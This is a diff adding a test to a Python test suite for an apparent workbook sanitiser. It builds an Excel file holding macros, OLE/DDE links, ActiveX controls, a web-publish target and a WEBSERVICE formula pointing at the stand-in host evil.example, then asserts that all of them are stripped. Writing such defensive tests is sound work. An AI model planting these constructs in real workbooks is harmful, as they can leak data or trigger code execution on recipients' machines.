@@ -372,6 +372,93 @@ def test_nothing_that_is_followed_or_calculated_is_sent_on() -> None:
     assert [rule.formula1 for rule in sheet.data_validations.dataValidation] == ['"T0,T1"']
 
 
+MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PARTS = {
+    # Each with its type, whose relation it is, and the kind of that.
+    "xl/externalLinks/externalLink1.xml": ("externalLink+xml", "book", "externalLink"),
+    "xl/connections.xml": ("connections+xml", "book", "connections"),
+    "xl/pivotCache/pivotCacheDefinition1.xml": (
+        "pivotCacheDefinition+xml", "book", "pivotCacheDefinition"),
+    "xl/queryTables/queryTable1.xml": ("queryTable+xml", "sheet", "queryTable"),
+    "xl/macrosheets/sheet9.xml": ("macrosheet+xml", "book", "xlMacrosheet"),
+    "xl/dialogsheets/sheet8.xml": ("dialogsheet+xml", "book", "dialogsheet"),
+    "xl/vbaProject.bin": ("vbaProject", "book", "vbaProject"),
+    "xl/customData/item1.data": ("model+data", "book", "powerPivotData"),
+    "xl/persons/person.xml": ("person+xml", "book", "person"),
+    "xl/threadedComments/threadedComment1.xml": ("threadedcomments+xml", "sheet",
+                                                 "threadedComment"),
+    "xl/printerSettings/printerSettings1.bin": ("printerSettings", "sheet", "printerSettings"),
+    "xl/embeddings/oleObject1.bin": ("oleObject", "sheet", "oleObject"),
+    "xl/activeX/activeX1.xml": ("control+xml", "sheet", "control"),
+    "xl/ctrlProps/ctrlProp1.xml": ("controlproperties+xml", "sheet", "ctrlProp"),
+    "xl/slicers/slicer1.xml": ("slicer+xml", "sheet", "slicer"),
+    "customXml/item1.xml": ("customXml+xml", "book", "customXml"),
+    "customUI/customUI.xml": ("customUI+xml", "", "extensibility"),
+    "docProps/custom.xml": ("custom-properties+xml", "", "custom-properties"),
+    "xl/webextensions/taskpanes.xml": ("taskpanes+xml", "", "webextensiontaskpanes"),
+}  # fmt: skip
+INSIDE = {
+    "xl/workbook.xml": f'<externalReferences xmlns:r="{REL}"><externalReference r:id="n0"/>'
+    "</externalReferences>",
+    "xl/worksheets/sheet1.xml": f'<pageSetup xmlns:r="{REL}" r:id="n10"/>'
+    f'<oleObjects xmlns:r="{REL}">'
+    '<oleObject progId="Package" shapeId="1" r:id="n11"/><oleObject progId="DDE" link="[1]!x"'
+    ' dvAspect="DVASPECT_ICON" oleUpdate="OLEUPDATE_ALWAYS" shapeId="2"/></oleObjects>'
+    f'<controls xmlns:r="{REL}"><control shapeId="3" r:id="n12"/></controls>'
+    '<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet"'
+    ' destinationFile="http://evil.example/a.htm"/></webPublishItems><extLst><ext'
+    ' uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:cf'
+    ' xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
+    "WEBSERVICE(evil.example)</x14:cf></ext></extLst>",
+}
+KEPT_PARTS = re.compile(
+    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core)\.xml|xl/_rels/workbook\.xml\.rels"
+    r"|xl/(workbook|styles|sharedStrings|theme/theme1)\.xml|xl/worksheets/sheet\d\.xml"
+    r"|xl/worksheets/_rels/sheet\d\.xml\.rels|xl/comments/comment\d\.xml"
+    r"|xl/drawings/commentsDrawing\d\.vml"
+)
+
+
+def with_everything(content: bytes) -> bytes:
+    """The workbook with every kind of part that a workbook program would act upon."""
+    owners = {
+        "book": "xl/_rels/workbook.xml.rels",
+        "sheet": "xl/worksheets/_rels/sheet1.xml.rels",
+        "": "_rels/.rels",
+    }
+    ends = {"[Content_Types].xml": "", **dict.fromkeys(owners.values(), ""), **INSIDE}
+    for number, (name, (kind, owner, relation)) in enumerate(PARTS.items()):
+        ends["[Content_Types].xml"] += f'<Override PartName="/{name}" ContentType="{MAIN}.{kind}"/>'
+        ends[owners[owner]] += (
+            f'<Relationship Id="n{number}" Type="{REL}/{relation}" Target="/{name}"/>'
+        )
+    buffer = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(content)) as before,
+        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as after,
+    ):
+        for name in before.namelist():
+            part = before.read(name)
+            if end := ends.pop(name, ""):
+                at = part.rindex(b"</")
+                part = part[:at] + end.encode() + part[at:]
+            after.writestr(name, part)
+        assert not ends
+        for name in PARTS:
+            after.writestr(name, b"<evil.example/>")
+    return buffer.getvalue()
+
+
+def test_no_part_is_sent_on_but_those_that_say_what_cells_hold() -> None:
+    result = marked(with_everything(made(alive)))
+    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
+        assert [name for name in package.namelist() if not KEPT_PARTS.fullmatch(name)] == []
+        for name in package.namelist():
+            assert b"evil" not in package.read(name), name
+            assert b'TargetMode="External"' not in package.read(name), name
+
+
 def test_a_formula_becomes_its_value() -> None:
     buffer = io.BytesIO()
     workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
